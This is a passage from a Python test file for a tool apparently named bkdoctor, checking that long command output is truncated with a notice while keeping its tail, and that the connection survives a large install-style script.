            # an install step (keep_tail) is never stopped half way for talking much: it runs to its end
            long = await t.run_script(
                "head -c 10000000 /dev/zero | tr '\\0' x; echo; echo done; touch /tmp/bkd-keep-tail", 60, keep_tail=True
            )
            ran = await t.run_script("test -e /tmp/bkd-keep-tail && rm /tmp/bkd-keep-tail && echo ran", 30)
            return long, ran, await t.run_script("echo ok", 30)  # the connection survives
        finally:
            await t.close()

    long, ran, ok = asyncio.run(go())
    assert ok.stdout == b"ok\n" and ran.stdout == b"ran\n" and long.rc == 0
    assert long.stdout.endswith(b"x\ndone\n") and long.stdout.startswith(b"[bkdoctor: ")
    assert b"bytes of output left out]" in long.stdout[:80] and len(long.stdout) <= (4 << 20) + 80


def test_read_bounded_keeps_the_tail_only_when_asked():
    import asyncio

    from bkdoctor.transport.base import TransportError, read_bounded

    class S:
        def __init__(self, chunks):
            self.chunks = list(chunks)

        async def read(self, n):
            return self.chunks.pop(0) if self.chunks else b""

    data = [b"a" * 70000, b"b" * 70000, b"c" * 10]
    with pytest.raises(TransportError):
        asyncio.run(read_bounded(S(data), 100000, "x"))
    got = asyncio.run(read_bounded(S(data), 100000, "x", keep_tail=True))
    assert got == b"[bkdoctor: 40,010 bytes of output left out]\n" + (b"a" * 70000 + b"b" * 70000 + b"c" * 10)[-100000:]
    assert asyncio.run(read_bounded(S([b"abc"]), 100000, "x", keep_tail=True)) == b"abc"
